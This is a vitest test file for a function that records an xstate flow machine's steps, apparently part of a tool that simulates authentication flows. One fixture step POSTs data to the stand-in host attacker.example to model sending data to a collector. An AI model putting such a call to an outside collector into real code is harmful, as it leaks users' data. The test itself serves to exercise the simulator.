import { describe, expect, it } from 'vitest';
import { assign, fromPromise, setup } from 'xstate';
import { createCloud } from '$lib/cloud';
import { runFlowMachine } from './run-machine';
import type { FlowDefinition } from './types';

const definition = {
	id: 'test-flow',
	title: 'A test flow',
	actors: [],
	steps: [
		{ id: 'collect', title: 'Send to the collector' },
		{ id: 'denied', title: 'A refusal the flow carries on from' },
		{ id: 'think', title: 'The app thinks', actor: 'app' },
		{ id: 'fatal', title: 'A refusal that ends the run' }
	],
	mistakes: [],
	choices: [],
	trusts: ['user-pool']
} as const satisfies FlowDefinition;

const getUser = (fetch: typeof globalThis.fetch) =>
	fetch('https://cognito-idp.us-east-1.amazonaws.com/', {
		method: 'POST',
		headers: {
			'content-type': 'application/x-amz-json-1.1',
			'x-amz-target': 'AWSCognitoIdentityProviderService.GetUser'
		},
		body: JSON.stringify({ AccessToken: 'not-a-token' })
	}).then((r) => r.status);

interface Context {
	fetch: typeof globalThis.fetch;
	refusedSteps: string[];
	error: string | null;
}

const fetchOf = ({ context }: { context: Context }) => context.fetch;

// Four step states: one ok, one refused on purpose, one without exchanges, one that fails the run.
const machine = setup({
	types: {
		input: {} as { fetch: typeof globalThis.fetch },
		context: {} as Context,
		output: {} as { error: string | null }
	},
	actors: {
		collect: fromPromise<number, typeof globalThis.fetch>(({ input }) =>
			input('https://attacker.example/', { method: 'POST', body: 'x' }).then((r) => r.status)
		),
		getUser: fromPromise<number, typeof globalThis.fetch>(({ input }) => getUser(input)),
		think: fromPromise(async () => 'thought'),
		fail: fromPromise<never, typeof globalThis.fetch>(async ({ input }) => {
			throw new Error(`refused with ${await getUser(input)}`);
		})
	}
}).createMachine({
	context: ({ input }) => ({ fetch: input.fetch, refusedSteps: [], error: null }),
	initial: 'collect',
	states: {
		collect: {
			meta: { step: 'collect' },
			invoke: { src: 'collect', input: fetchOf, onDone: 'denied' }
		},
		denied: {
			meta: { step: 'denied' },
			invoke: {
				src: 'getUser',
				input: fetchOf,
				onDone: {
					target: 'think',
					actions: assign({
						refusedSteps: ({ context }: { context: Context }) => [...context.refusedSteps, 'denied']
					})
				}
			}
		},
		// A step state must settle to be seen: a transient (`always`) state is never a step.
		think: { meta: { step: 'think' }, invoke: { src: 'think', onDone: 'fatal' } },
		fatal: {
			meta: { step: 'fatal' },
			invoke: {
				src: 'fail',
				input: fetchOf,
				onError: {
					target: 'failed',
					actions: assign({ error: ({ event }) => (event.error as Error).message })
				}
			}
		},
		failed: { type: 'final' }
	},
	output: ({ context }) => ({ error: context.error })
});

describe('runFlowMachine', () => {
	it('turns each step state into a step, with its exchanges, outcome, caption and actor', async () => {
		const cloud = createCloud(undefined, { clock: { fixed: Date.UTC(2026, 11, 2) } });
		const run = await runFlowMachine({
			cloud,
			definition,
			machine,
			input: { fetch: cloud.fetch },
			mistakes: ['m'],
			captionForStep: ({ step, exchanges }) => `${step}: ${exchanges.length}`,
			errorOf: (output) => output.error ?? undefined
		});
		expect(run).toMatchObject({
			flowId: 'test-flow',
			mistakes: ['m'],
			status: 'failed',
			error: 'refused with 400'
		});
		expect(run.user).toBeUndefined();
		expect(
			run.steps.map((s) => [s.index, s.id, s.outcome, s.caption, s.actor ?? null, s.title])
		).toEqual([
			[0, 'collect', 'ok', 'collect: 1', null, 'Send to the collector'],
			[1, 'denied', 'error', 'denied: 1', null, 'A refusal the flow carries on from'],
			[2, 'think', 'ok', 'think: 0', 'app', 'The app thinks'],
			[3, 'fatal', 'error', 'fatal: 1', null, 'A refusal that ends the run']
		]);
		expect(run.steps[1]!.exchanges[0]!.label).toBe('GetUser');
		expect(run.steps.every((s) => s.at === Date.UTC(2026, 11, 2))).toBe(true);
		expect(structuredClone(run)).toEqual(run);
	});
});
